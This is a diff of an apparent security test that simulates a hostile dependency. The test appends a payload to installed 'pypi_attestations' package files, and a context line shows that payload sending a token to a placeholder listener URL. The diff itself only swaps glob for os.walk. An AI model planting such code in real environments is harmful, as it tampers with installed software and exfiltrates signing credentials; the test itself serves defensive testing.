@@ -44,9 +44,12 @@ urllib.request.urlopen(urllib.request.Request("@LISTENER@/sign", _token))
 def test_as_any_dependency_could():
     roots = {os.environ.get("UV_CACHE_DIR"), "/cache", "/opt", str(pathlib.Path.home())}
     for root in filter(None, roots):
-        for path in pathlib.Path(root).glob("**/pypi_attestations/__init__.py"):
-            path.chmod(0o644)
-            path.write_text(path.read_text() + PAYLOAD)
+        # os.walk goes on where a directory vanishes.
+        for directory, _, names in os.walk(root):
+            path = pathlib.Path(directory, "__init__.py")
+            if path.parent.name == "pypi_attestations" and path.name in names:
+                path.chmod(0o644)
+                path.write_text(path.read_text() + PAYLOAD)
 '''
 
 
